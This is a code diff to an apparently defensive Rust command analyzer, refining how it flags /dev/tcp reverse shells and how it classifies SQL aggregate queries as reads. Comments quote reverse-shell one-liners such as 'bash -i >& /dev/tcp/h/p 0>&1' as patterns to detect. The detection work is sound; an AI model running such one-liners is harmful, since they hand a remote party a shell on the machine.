@@ -117,11 +117,13 @@ impl Analyzer {
 
     /// `<`, `>`, `>>`, and `/dev/tcp/HOST/PORT`: what the shell does for the command.
     fn redirect_effects(&mut self, index: usize, cmd: &Command) {
-        // `exec bash -i >& /dev/tcp/...` replaces the shell; `exec 3<>/dev/tcp/...` alone
-        // only opens a descriptor.
-        let interactive = super::wrappers::SHELLS.contains(&cmd.program.as_str())
-            || super::wrappers::is_interpreter(&cmd.program)
-            || (cmd.program == "exec" && !cmd.args.is_empty());
+        // `exec bash -i >& /dev/tcp/...` replaces the shell; `exec 5<>/dev/tcp/...` alone
+        // opens a descriptor the rest of the line can run commands from (the classic
+        // reverse shell), unless it reaches this machine (`exec 3<>/dev/tcp/127.0.0.1/6379`).
+        let shell_like = super::wrappers::SHELLS.contains(&cmd.program.as_str())
+            || super::wrappers::is_interpreter(&cmd.program);
+        let bare_exec = cmd.program == "exec" && cmd.args.is_empty();
+        let interactive = shell_like || (cmd.program == "exec" && !bare_exec);
         for r in &cmd.redirects {
             let via = match r.kind {
                 RedirectKind::Read => "< redirect",
@@ -132,7 +134,7 @@ impl Analyzer {
                 let mut net = Effect::new(Kind::Net, Target::Name(host.clone()), via);
                 net.send = r.kind != RedirectKind::Read;
                 self.push_effect(index, net);
-                if interactive {
+                if interactive || (bare_exec && !crate::normalize::host::is_loopback(&host)) {
                     // `bash -i >& /dev/tcp/h/p 0>&1`: a shell wired to a socket.
                     let exec = Effect::new(Kind::Exec, Target::Name(host), "shell on a socket")
                         .from_source(Source::Network);
@@ -1073,6 +1075,36 @@ fn url_basename(word: &str) -> Option<String> {
     Some(name.to_string())
 }
 
+/// A select list of aggregates and constants only (`count(*)`, `max(id)`, `1`), up to FROM:
+/// the words after `select` as [`classify_sql`] splits them.
+fn only_aggregates(after_select: &[&str]) -> bool {
+    const AGGREGATES: &[&str] = &[
+        "count",
+        "sum",
+        "avg",
+        "min",
+        "max",
+        "version",
+        "now",
+        "current_date",
+        "current_timestamp",
+        "current_user",
+        "as",
+        "distinct",
+    ];
+    let list: Vec<&&str> = after_select
+        .iter()
+        .take_while(|w| !matches!(**w, "from" | "into" | "where" | ";"))
+        .take(32)
+        .collect();
+    !list.is_empty()
+        && list.iter().all(|w| {
+            AGGREGATES.contains(w)
+                || w.chars().all(|c| c.is_ascii_digit())
+                || matches!(**w, "n" | "total" | "c" | "cnt")
+        })
+}
+
 /// The shell commands a statement hands rows to: `TO PROGRAM 'cmd'` (quoted either way)
 /// and psql's `\o |cmd` (to the end of the line).
 fn commands_fed_rows(text: &str) -> Vec<String> {
@@ -1148,8 +1180,10 @@ pub fn classify_sql(text: &str) -> Vec<SqlKind> {
             "flushall" | "flushdb" => add(SqlKind::Flush),
             "dropdatabase" => add(SqlKind::Drop),
             // Data read out: a query, an export (`COPY t TO ...`, psql's `\copy`), `\o`.
-            "select" | "with" | "table" if i == 0 => add(SqlKind::Read),
-            "select" | "show" | "o" => add(SqlKind::Read),
+            "with" | "table" if i == 0 => add(SqlKind::Read),
+            // Counts and other aggregates read no rows out (`SELECT count(*) FROM users`).
+            "select" if !only_aggregates(&words[i + 1..]) => add(SqlKind::Read),
+            "show" | "o" => add(SqlKind::Read),
             "copy" if words[i + 1..].iter().take(40).any(|x| *x == "to") => add(SqlKind::Read),
             "drop" => add(SqlKind::Drop),
             _ => {}
